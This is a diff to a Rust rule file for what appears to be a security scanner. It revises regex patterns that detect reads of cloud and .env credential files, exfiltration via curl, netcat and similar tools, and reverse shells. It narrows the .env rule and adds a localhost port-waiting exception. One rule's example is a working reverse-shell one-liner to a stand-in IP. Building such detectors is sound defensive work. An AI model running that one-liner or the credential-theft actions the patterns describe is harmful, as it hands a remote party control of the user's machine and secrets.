@@ -54,7 +54,7 @@ const CLOUD: Pattern = but(
     ],
     &[
         r"(cat|open|read\w*|cp|copy\w*|tar|zip|base64|load|Path)\b.{0,80}(\.aws\b[^a-z]{0,6}(credentials|config)|\.kube/config|gcloud/(application_default|credentials)|\.netrc|\.npmrc|\.pypirc|\.docker/config\.json|\.git-credentials|gh/hosts\.yml|\.azure/(accessTokens|msal))",
-        r"(cat|cp|tar|zip|base64)\s+\S*\.env\b|(open|readFileSync|read_text)\s*\(.{0,60}/\.env['\x22]",
+        r"(cat|tar|zip|base64)\s+\S*\.env\s*\|\s*(curl|nc|ncat|base64|gzip)",
     ],
     r"\.env\.example",
 );
@@ -66,7 +66,7 @@ const SEND: Pattern = but(
         "nslookup", "urlopen", "invoke-",
     ],
     &[
-        r"\bcurl\b[^|]*\s(-d|-F|-T|--data\S*|--form|--upload-file|--json|-X\s*(POST|PUT))\b|\bcurl\b.{0,120}(\$\(|\x60|\$\{?\w+)",
+        r"\bcurl\b[^|]*\s(-d|-F|-T|--data\S*|--form|--upload-file|--json|-X\s*(POST|PUT))\b|\bcurl\b.{0,120}(\$\(|\x60|[?&]\w+=\$)",
         r"\bwget\b.*--(post|body)-(data|file)|\b(requests|httpx|session|client|axios|aiohttp)\.(post|put|patch)\s*\(",
         r"urlopen\s*\(.*(data|Request)|Request\s*\(.*data\s*=|method:?\s*=?\s*['\x22](POST|PUT)['\x22]",
         r"\|\s*(nc|ncat|netcat)\s+\S+\s+\d+|\.sendall\s*\(|smtplib\.|\bscp\s+\S+\s+\S+@|(dig|nslookup|ping)\s+.{0,40}\$\(",
@@ -176,13 +176,15 @@ pub(super) const RULES: &[Rule] = &[
         why: "whoever waits there can do whatever the user can",
         help: "do not run it",
         scope: Any,
-        test: Line(pattern(
+        test: Line(but(
             &["/dev/tcp/", "/dev/udp/", "nc ", "ncat", "mkfifo", "dup2", "pty.spawn", "tcpclient", "socat"],
             &[
                 r"(bash|sh)\s+-i\b.{0,40}/dev/(tcp|udp)/|exec\s+\d*<>\s*/dev/(tcp|udp)/\S+/\d",
                 r"\b(nc|ncat|netcat)(\.\w+)?\s+.{0,80}\s(-\w*e|-c|--exec)\s+\S*(sh|bash|cmd)\b|mkfifo\s+.{0,120}\b(nc|ncat|telnet)\s",
-                r"dup2\s*\(\s*\w+\.fileno\(\)|socat\s+.{0,80}exec:\S*(sh|bash)|net\.sockets\.tcpclient\(.{0,400}(iex|invoke-expression)",
+                r"dup2\s*\(\s*(s|sock\w*|conn\w*|client\w*)\.fileno\(\)|socat\s+.{0,80}exec:\S*(sh|bash)|net\.sockets\.tcpclient\(.{0,400}(iex|invoke-expression)",
             ],
+            // Waiting for a port is done like this, too.
+            r"exec\s+\d*<>\s*/dev/tcp/(localhost|127\.|[$\x22{])",
         )),
         example: example("scripts/run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.44/4444 0>&1\n"),
     },
